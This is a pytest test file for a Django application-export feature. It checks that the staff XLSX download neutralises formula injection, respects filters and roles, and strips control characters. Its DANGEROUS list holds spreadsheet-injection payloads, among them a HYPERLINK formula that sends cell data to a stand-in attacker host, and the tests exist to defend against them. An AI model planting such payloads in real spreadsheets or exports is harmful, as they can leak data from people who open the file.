"""The staff XLSX export: one row per filtered application, nothing a spreadsheet would run."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Status, TeamMember, TeamRole
from cohorts.models import OrganisationType, Track
from tests.exports import exported
from tests.factories import ApplicationFactory, CohortFactory, next_business_id

EXPORT = reverse("staff:export")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth equals sign, which spreadsheets read as '='
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def sheet_of(response):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith('attachment; filename="')
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook = load_workbook(io.BytesIO(response.content))
    return workbook.active


def rows_of(sheet):
    header, *rows = list(sheet.iter_rows(values_only=True))
    return header, rows


def column(header, rows, title):
    index = header.index(title)
    return [row[index] for row in rows]


def _submitted(cohort, name, **fields):
    application = ApplicationFactory(cohort=cohort, org_name=name, complete=True)
    for key, value in fields.items():
        setattr(application, key, value)
    application.status = fields.get("status", Status.SUBMITTED)
    application.save()
    return application


def test_export_has_a_header_and_one_row_per_application(coordinator_client, cohort):
    first = _submitted(cohort, "Alfalan kaupunki", pilot_value=Decimal("123456.50"))
    _submitted(cohort, "Betalan kunta", status=Status.DRAFT)
    _submitted(CohortFactory(), "Toisen kohortin kunta")

    sheet = sheet_of(exported(coordinator_client, EXPORT, {"query": f"cohort={cohort.pk}"}))
    header, rows = rows_of(sheet)

    assert header[:3] == ("Organisaatio", "Y-tunnus", "Organisaation tyyppi") or header[:3] == (
        "Organisation",
        "Business ID",
        "Organisation type",
    )
    assert len(header) == 18
    assert all(title for title in header)
    assert sorted(column(header, rows, header[0])) == ["Alfalan kaupunki", "Betalan kunta"]
    row = next(r for r in rows if r[0] == "Alfalan kaupunki")
    assert row[1] == first.business_id
    assert "Toimiala Asiantuntija" in row[header.index(header[13])]
    assert Decimal(str(row[15])) == Decimal("123456.50")
    assert sheet.freeze_panes == "A2"


def test_formula_like_text_is_neutralised(coordinator_client, cohort):
    for index, text in enumerate(DANGEROUS):
        application = _submitted(cohort, text, motivation=text, contact_name=text)
        TeamMember.objects.create(
            application=application, name=text, role=TeamRole.LAWYER, email=""
        )
        assert application.business_id, index

    sheet = sheet_of(exported(coordinator_client, EXPORT))
    header, rows = rows_of(sheet)
    assert len(rows) == len(DANGEROUS)

    # A bare CR is written as OOXML's escape _x000D_ (XlsxWriter; Excel reads it back as CR,
    # openpyxl leaves it as it is); older files read back as LF or CR.
    as_read = (
        {text.replace("\r", "\n") for text in DANGEROUS}
        | {text.replace("\r", "_x000D_") for text in DANGEROUS}
        | set(DANGEROUS)
    )
    checked = 0
    for sheet_row in sheet.iter_rows(min_row=2):
        for cell in sheet_row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.lstrip("'") in as_read:
                assert cell.value.startswith("'"), (cell.coordinate, cell.value)
                assert cell.value[1:] in as_read
                checked += 1
    # organisation, contact person and motivation of every row
    assert checked == 3 * len(DANGEROUS)
    names = column(header, rows, header[0])
    assert {name[1:] for name in names} <= as_read and len(names) == len(DANGEROUS)
    assert all(name.startswith("'") for name in names)


def test_ordinary_text_is_exported_as_it_is(coordinator_client, cohort):
    _submitted(cohort, "Kaupunki = hyvä paikka", motivation="Hyvä - parempi - paras")
    header, rows = rows_of(sheet_of(exported(coordinator_client, EXPORT)))
    assert rows[0][0] == "Kaupunki = hyvä paikka"
    assert "Hyvä - parempi - paras" in rows[0]


def test_control_characters_do_not_break_the_file(coordinator_client, cohort):
    # (NUL never gets this far: Django's form fields refuse it, PostgreSQL too.)
    _submitted(cohort, "Kello\x07ja\x1bpako\x0bkunta", motivation="rivi 1\nrivi 2")
    header, rows = rows_of(sheet_of(exported(coordinator_client, EXPORT)))
    assert rows[0][0] == "Kellojapakokunta"
    assert "rivi 1\nrivi 2" in rows[0]


@pytest.mark.parametrize(
    "query, expected",
    [
        ("status=submitted", {"Alfa", "Beta", "Gamma"}),
        ("status=draft", {"Delta"}),
        ("track=employment", {"Alfa", "Gamma"}),
        ("track=human_rights", {"Beta", "Delta"}),
        ("org_type=wellbeing_county", {"Beta"}),
        ("q=gamma", {"Gamma"}),
        ("q=gamma@example.org", {"Gamma"}),
        ("status=submitted&track=human_rights", {"Beta"}),
        ("status=withdrawn", set()),
        ("", {"Alfa", "Beta", "Gamma", "Delta"}),
    ],
)
def test_filters_apply_to_the_export(coordinator_client, cohort, query, expected):
    _submitted(cohort, "Alfa", track=Track.EMPLOYMENT)
    _submitted(
        cohort,
        "Beta",
        track=Track.HUMAN_RIGHTS,
        org_type=OrganisationType.WELLBEING_COUNTY,
    )
    _submitted(cohort, "Gamma", track=Track.EMPLOYMENT, contact_email="gamma@example.org")
    _submitted(cohort, "Delta", track=Track.HUMAN_RIGHTS, status=Status.DRAFT)

    list_response = coordinator_client.get(reverse("staff:applications") + "?" + query)
    listed = {a.org_name for a in list_response.context["applications"]}
    header, rows = rows_of(sheet_of(exported(coordinator_client, EXPORT, {"query": query})))

    assert {row[0] for row in rows} == expected
    assert len(rows) == len(expected)
    assert listed == expected  # the list and the export agree


def test_the_export_link_on_the_list_carries_the_filters(coordinator_client, cohort):
    _submitted(cohort, "Alfa")
    response = coordinator_client.get(reverse("staff:applications") + "?status=submitted&q=Alfa")
    page = response.content.decode()
    assert f'action="{EXPORT}" id="export-form"' in page
    assert 'name="query" value="status=submitted&amp;q=Alfa"' in page


def test_a_reviewer_exports_only_the_applications_assigned_to_them(
    reviewer_client, reviewer, cohort
):
    from applications.models import ReviewAssignment
    from soske import clock

    alfa = _submitted(cohort, "Alfa", business_id=next_business_id())
    _submitted(cohort, "Beta", business_id=next_business_id())
    ReviewAssignment.objects.create(
        application=alfa, reviewer=reviewer, assigned_by=reviewer, assigned_at=clock.now(),
        conflict=False,
    )  # fmt: skip
    header, rows = rows_of(sheet_of(exported(reviewer_client, EXPORT)))
    assert [row[0] for row in rows] == ["Alfa"]


def test_applicants_get_403(applicant_client, complete_draft):
    response = applicant_client.post(EXPORT, {"query": ""})
    assert response.status_code == 403
    assert response["Content-Type"] != XLSX


def test_anonymous_is_sent_to_sign_in(anonymous, cohort):
    response = anonymous.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def _queries_of(client, url, query):
    """The statements of asking for the export, building it and downloading it."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        sheet_of(exported(client, url, {"query": query}))
    return len(queries)


def test_the_export_makes_as_many_queries_for_one_application_as_for_many(
    coordinator_client, cohort
):
    query = f"cohort={cohort.pk}"
    _submitted(cohort, "Ensimmäinen")
    one = _queries_of(coordinator_client, EXPORT, query)
    for i in range(6):
        application = _submitted(cohort, f"Kunta {i}")
        TeamMember.objects.create(
            application=application, name=f"N {i}", role=TeamRole.LAWYER, email=""
        )
        application.themes.set(cohort.themes.all())
    assert _queries_of(coordinator_client, EXPORT, query) == one
